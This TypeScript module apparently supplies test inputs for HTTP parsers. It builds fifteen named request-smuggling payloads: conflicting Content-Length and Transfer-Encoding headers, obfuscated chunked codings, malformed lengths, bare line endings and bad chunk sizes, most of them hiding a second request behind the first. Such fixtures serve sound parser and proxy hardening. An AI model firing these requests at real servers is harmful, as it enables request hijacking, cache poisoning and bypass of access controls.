// Requests whose framing two parsers could read differently; each hides a second request behind the first.

/** `to` = what stands before the path: `http://host:port`, or nothing inside a tunnel. */
export const smuggled = (to: string) => `GET ${to}/smuggled HTTP/1.1\r\nHost: ${hostOf(to)}\r\n\r\n`
export const post = (to: string, fields: string, body: string) =>
  `POST ${to}/first HTTP/1.1\r\nHost: ${hostOf(to)}\r\n${fields}\r\n\r\n${body}`

/** Inside a tunnel the host is the tunnel's. */
const hostOf = (to: string) => (to === '' ? 'localhost' : 'x')

export const framings: Readonly<Record<string, (to: string) => string>> = {
  'Content-Length, then chunked': (to) =>
    post(to, 'Content-Length: 5\r\nTransfer-Encoding: chunked', `0\r\n\r\n${smuggled(to)}`),
  'chunked, then Content-Length': (to) =>
    post(to, 'Transfer-Encoding: chunked\r\nContent-Length: 5', `0\r\n\r\n${smuggled(to)}`),
  'two codings, chunked not last': (to) => post(to, 'Transfer-Encoding: chunked, identity', `0\r\n\r\n${smuggled(to)}`),
  'an unknown coding': (to) => post(to, 'Transfer-Encoding: xchunked', `0\r\n\r\n${smuggled(to)}`),
  'a vertical tab before chunked': (to) => post(to, 'Transfer-Encoding: \x0bchunked', `0\r\n\r\n${smuggled(to)}`),
  'a space before the colon': (to) => post(to, 'Transfer-Encoding : chunked', `0\r\n\r\n${smuggled(to)}`),
  'two differing Content-Lengths in one field': (to) => post(to, 'Content-Length: 0, 60', smuggled(to)),
  'a plus in Content-Length': (to) => post(to, 'Content-Length: +0', smuggled(to)),
  'Content-Length in hexadecimal': (to) => post(to, 'Content-Length: 0x0', smuggled(to)),
  'a bare LF in the head': (to) => `GET ${to}/first HTTP/1.1\nHost: x\n\n`,
  'a bare CR in a field': (to) => `GET ${to}/first HTTP/1.1\r\nHost: x\r\nA: b\rTransfer-Encoding: chunked\r\n\r\n`,
  'junk after the last chunk': (to) => post(to, 'Transfer-Encoding: chunked', `0\r\nXX${smuggled(to)}`),
  'a chunk size with a sign': (to) => post(to, 'Transfer-Encoding: chunked', `-1\r\nab\r\n0\r\n\r\n`),
  'a chunk size of 17 digits': (to) => post(to, 'Transfer-Encoding: chunked', `fffffffffffffffff\r\nab\r\n0\r\n\r\n`),
  'a chunk longer than its size': (to) => post(to, 'Transfer-Encoding: chunked', `2\r\nabcd\r\n0\r\n\r\n`),
}
